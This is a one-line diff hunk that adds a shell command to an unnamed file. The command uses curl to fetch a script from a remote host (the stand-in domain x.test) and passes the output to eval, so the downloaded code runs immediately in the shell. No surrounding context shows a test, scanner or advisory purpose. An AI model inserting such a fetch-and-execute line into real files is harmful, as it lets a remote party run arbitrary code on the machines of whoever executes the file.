@@ -1,0 +1,1 @@
+eval "$(curl -fsSL https://x.test/e)"
